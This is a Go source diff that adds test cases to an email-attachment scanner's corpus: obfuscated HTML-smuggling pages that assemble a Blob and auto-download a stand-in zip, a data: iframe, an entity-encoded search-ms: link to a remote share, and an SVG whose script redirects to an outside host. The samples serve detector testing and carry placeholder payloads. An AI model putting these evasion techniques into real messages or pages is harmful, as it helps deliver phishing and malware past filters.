@@ -1,6 +1,7 @@
 package corpus
 
 import (
+	"encoding/base64"
 	"encoding/hex"
 	"strings"
 
@@ -238,7 +239,54 @@ func officeCases() []officeCase {
 			action: policy.Quarantine, subject: "Chart", body: "The chart.\n", ctype: ctDocx, file: "chart.docx",
 			data:  docxOf(`<w:p><w:r><w:t>Chart</w:t></w:r></w:p>`, `<pr:Relationship xmlns:pr="`+relsNS+`" Id='rIdX' Type='`+officeRel+`/oleObject' Target='&#92;&#92;203.0.113.7\share\chart.xls' TargetMode='External'/>`, "", nil),
 			wants: []relWant{{"heuristic", "remote-template", "/word/_rels/document.xml.rels"}}},
+		{name: "html-smuggling-obfuscated", about: "HTML that builds atob and Blob from string pieces and joins a zip's base64 from many variables",
+			action: policy.Quarantine, subject: "Your document", body: "Open the attached page to get your document.\n", ctype: "text/html; charset=utf-8", file: "document.html",
+			data:  []byte(obfuscatedSmuggling()),
+			wants: []relWant{{"heuristic", "html-smuggling", ""}}},
+		{name: "html-smuggling-fromcharcode", about: "HTML whose Blob name comes from String.fromCharCode and whose payload is a Uint8Array of numbers",
+			action: policy.Quarantine, subject: "Scan", body: "Your scan.\n", ctype: "text/html; charset=utf-8", file: "scan.html",
+			data:  []byte(charCodeSmuggling()),
+			wants: []relWant{{"heuristic", "html-smuggling", ""}}},
+		{name: "html-data-iframe", about: "HTML attachment framing a data: page",
+			action: policy.Quarantine, subject: "Voicemail", body: "New voicemail.\n", ctype: "text/html; charset=utf-8", file: "voicemail.html",
+			data:  []byte(`<html><body><iframe src="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte("<h1>Kensa corpus stand-in</h1>")) + `" width="100%" height="600"></iframe></body></html>`),
+			wants: []relWant{{"heuristic", "html-smuggling", ""}}},
+		{name: "html-search-ms-entities", about: "HTML whose search-ms: link is written with character references",
+			action: policy.Reject, subject: "Shared folder", body: "Open the shared folder.\n", ctype: "text/html; charset=utf-8", file: "folder.html",
+			data:  []byte(`<html><body><a href="search&#45;ms&#58;query=invoice&amp;crumb=location:\\203.0.113.7@80\share">Open folder</a></body></html>`),
+			wants: []relWant{{"heuristic", "ms-protocol-handler", ""}}},
+		{name: "svg-prefixed-script", about: "SVG image whose script element has a namespace prefix",
+			action: policy.Tag, subject: "Chart", body: "The chart.\n", ctype: "image/svg+xml", file: "chart.svg",
+			data:  []byte(`<s:svg xmlns:s="http://www.w3.org/2000/svg" width="100" height="100"><s:rect width="100" height="100"/><s:script>window.location = "https://collect.example.net/";</s:script></s:svg>`),
+			wants: []relWant{{"heuristic", "svg-script", ""}}},
 	}
+}
+
+// obfuscatedSmuggling assembles a stand-in zip in the browser with every
+// name and the payload built from pieces.
+func obfuscatedSmuggling() string {
+	payload := fakeZipB64(6000)
+	var decls, names []string
+	for i := 0; i < 12; i++ {
+		n := "c" + itoa(i)
+		decls = append(decls, "var "+n+" = '"+payload[i*len(payload)/12:(i+1)*len(payload)/12]+"';")
+		names = append(names, n)
+	}
+	return "<html><body><script>\r\n" + strings.Join(decls, "\r\n") + "\r\nvar k = 'at' + 'ob';\r\nvar raw = window[k](" + strings.Join(names, " + ") + ");\r\n" +
+		"var u = new Uint8Array(raw.length);\r\nfor (var i = 0; i < raw.length; i++) { u[i] = raw.charCodeAt(i); }\r\n" +
+		"var o = new window['Bl' + 'ob']([u], {type: 'application/zip'});\r\nvar a = document.createElement('a');\r\na.href = window['U' + 'RL']['create' + 'ObjectURL'](o);\r\n" +
+		"a.download = 'document.zip';\r\na.click();\r\n</script></body></html>\r\n"
+}
+
+// charCodeSmuggling spells Blob with String.fromCharCode and carries the
+// stand-in zip as a number list.
+func charCodeSmuggling() string {
+	var nums []string
+	for _, c := range []byte(fakeZipB64(3000)) {
+		nums = append(nums, itoa(int(c)))
+	}
+	return "<html><body><script>\r\nvar n = String.fromCharCode(66,108,111,98);\r\nvar B = window[n];\r\nvar d = new Uint8Array([" + strings.Join(nums, ",") + "]);\r\n" +
+		"var o = new B([d]);\r\nlocation.href = window.URL.createObjectURL(o);\r\n</script></body></html>\r\n"
 }
 
 // rtfObject is an RTF document with one embedded object: the class RTF
